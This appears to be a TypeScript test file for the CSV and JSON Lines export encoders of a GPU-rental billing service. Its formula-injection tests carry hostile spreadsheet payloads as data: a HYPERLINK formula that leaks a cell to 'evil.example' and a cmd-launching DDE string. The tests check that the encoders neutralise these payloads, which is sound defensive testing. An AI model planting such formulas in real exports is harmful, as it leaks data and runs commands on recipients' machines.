import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, csvRecord } from '#exports/domain/csv.ts';
import { usageEncoder, ledgerEncoder } from '#exports/domain/encode.ts';
import type { LedgerRow, UsageRow } from '#exports/domain/rows.ts';

const usageRow = (overrides: Partial<UsageRow> = {}): UsageRow => ({
  usageRecordId: 'use_1',
  jobId: 'job_1',
  assignmentId: 'asg_1',
  renterId: 'acct_renter',
  providerId: 'acct_provider',
  hostId: 'host_1',
  gpuModel: 'H100 80GB HBM3',
  from: '2025-03-10T10:00:00.000Z',
  to: '2025-03-10T10:30:00.000Z',
  gpuSeconds: 1800,
  pricePerGpuHour: 900_000,
  amount: 450_000,
  providerAmount: 405_000,
  fee: 45_000,
  chargedAt: '2025-03-10T10:30:01.000Z',
  transactionId: 'txn_1',
  ...overrides,
});

describe('csvField', () => {
  it('writes a plain value as it is', () => {
    expect(csvField('H100 80GB HBM3')).toBe('H100 80GB HBM3');
  });

  it('encloses a value with a comma in double quotes', () => {
    expect(csvField('a,b')).toBe('"a,b"');
  });

  it('doubles each double quote and encloses the value', () => {
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });

  it('encloses values with a line feed or a carriage return', () => {
    expect(csvField('line 1\nline 2')).toBe('"line 1\nline 2"');
    expect(csvField('a\rb')).toBe('"a\rb"');
  });

  it('writes an empty value as an empty field', () => {
    expect(csvRecord(['a', '', 'c'])).toBe('a,,c\r\n');
  });
});

describe('csvRecord', () => {
  it('ends every record with CRLF', () => {
    expect(csvRecord(['a', 'b'])).toBe('a,b\r\n');
  });

  it('reads back as the same fields, whatever they hold', () => {
    const fields = ['plain', 'with, comma', 'with "quotes"', 'multi\r\nline', '', '"', ',', '\n'];
    expect(parse(csvRecord(fields))).toEqual([fields]);
  });
});

describe('usage CSV', () => {
  it('starts with the header row of the documented columns', () => {
    expect(usageEncoder('csv').header).toBe(
      'usageRecordId,jobId,assignmentId,renterId,providerId,hostId,gpuModel,from,to,gpuSeconds,pricePerGpuHour,amount,providerAmount,fee,chargedAt,transactionId,serviceId\r\n',
    );
  });

  it('writes amounts as decimal USD strings, GPU-seconds to the millisecond and times as ISO-8601', () => {
    expect(usageEncoder('csv').page([usageRow({ gpuSeconds: 1.5 })])).toBe(
      'use_1,job_1,asg_1,acct_renter,acct_provider,host_1,H100 80GB HBM3,2025-03-10T10:00:00.000Z,2025-03-10T10:30:00.000Z,1.500,0.900000,0.450000,0.405000,0.045000,2025-03-10T10:30:01.000Z,txn_1,\r\n',
    );
  });

  it("names the service of a service replica's job (read from its id), and leaves it empty for any other job", () => {
    const [replica] = parse(usageEncoder('csv').page([usageRow({ jobId: 'job_01testservice000000001r2g3' })]));
    expect(replica?.[16]).toBe('svc_01testservice000000001');
    const [plain] = parse(usageEncoder('csv').page([usageRow()]));
    expect(plain?.[16]).toBe('');
  });

  it('quotes a field that needs it and leaves a missing one empty', () => {
    const [record] = parse(usageEncoder('csv').page([usageRow({ gpuModel: 'RTX "4090", 24GB', transactionId: null })]));
    expect(record?.[6]).toBe('RTX "4090", 24GB');
    expect(record?.[15]).toBe('');
  });
});

describe('JSON Lines', () => {
  it('writes one object per line with the same names and values as the CSV', () => {
    const lines = usageEncoder('jsonl').page([usageRow(), usageRow({ usageRecordId: 'use_2', gpuModel: null })]).split('\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(JSON.parse(lines[0] ?? '')).toEqual({
      usageRecordId: 'use_1', jobId: 'job_1', assignmentId: 'asg_1', renterId: 'acct_renter', providerId: 'acct_provider', hostId: 'host_1',
      gpuModel: 'H100 80GB HBM3', from: '2025-03-10T10:00:00.000Z', to: '2025-03-10T10:30:00.000Z', gpuSeconds: '1800.000',
      pricePerGpuHour: '0.900000', amount: '0.450000', providerAmount: '0.405000', fee: '0.045000', chargedAt: '2025-03-10T10:30:01.000Z', transactionId: 'txn_1',
      serviceId: null,
    });
    expect(JSON.parse(lines[1] ?? '').gpuModel).toBeNull();
  });

  it('has no header line', () => {
    expect(usageEncoder('jsonl').header).toBe('');
  });

  it('writes ledger entries with signed amounts', () => {
    const entry: LedgerRow = { transactionId: 'txn_1', entryId: 'ent_1', postedAt: '2025-03-10T10:30:01.000Z', accountId: 'acct_renter', kind: 'usage_charge', amount: -450_000, reference: 'use_1' };
    expect(JSON.parse(ledgerEncoder('jsonl').page([entry]))).toMatchObject({ amount: '-0.450000', reference: 'use_1' });
    expect(ledgerEncoder('csv').page([entry])).toBe('txn_1,ent_1,2025-03-10T10:30:01.000Z,acct_renter,usage_charge,-0.450000,use_1\r\n');
  });
});

describe('formula injection (OWASP CSV injection)', () => {
  /** What a spreadsheet evaluates: a cell starting = + - @ tab or CR that is not a plain number. */
  const isLiveFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell);

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")', `"'=HYPERLINK(""http://evil.example/?x=""&B2,""RTX 4090"")"`],
    ['+1+cmd|" /C calc"!A0', `"'+1+cmd|"" /C calc""!A0"`],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', `'\t=1`],
    ['\r=1', `"'\r=1"`],
  ])('writes %j with a single quote in front', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it.each([['-0.450000'], ['-12'], ['+3.5'], ['0.450000'], ['RTX 4090'], ['a=b'], ["'=already text"]])('leaves %j as it is', (value) => {
    expect(csvField(value)).toBe(value);
  });

  it('reads back, for any text, as the text itself or, if it would start a formula, as the text after one single quote', () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(fc.string(), fc.constantFrom('=', '+', '-', '@', '\t', '\r').chain((head) => fc.string().map((tail) => head + tail))), { minLength: 1, maxLength: 6 }), (fields) => {
        const [cells = []] = parse(csvRecord(fields));
        expect(cells).toHaveLength(fields.length);
        cells.forEach((cell, index) => {
          expect(isLiveFormula(cell)).toBe(false);
          expect(cell === fields[index] || cell === `'${fields[index]}`).toBe(true);
        });
      }),
    );
  });

  it('defuses a hostile GPU name in the usage CSV and keeps signed ledger amounts as numbers', () => {
    const [usage] = parse(usageEncoder('csv').page([usageRow({ gpuModel: '=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")' })]));
    const entry: LedgerRow = { transactionId: 'txn_1', entryId: 'ent_1', postedAt: '2025-03-10T10:30:01.000Z', accountId: 'acct_renter', kind: 'credit', amount: -450_000, reference: '@SUM(1+1)' };
    const [ledger] = parse(ledgerEncoder('csv').page([entry]));

    expect(usage?.[6]).toBe(`'=HYPERLINK("http://evil.example/?x="&B2,"RTX 4090")`);
    expect([ledger?.[5], ledger?.[6]]).toEqual(['-0.450000', "'@SUM(1+1)"]);
  });
});
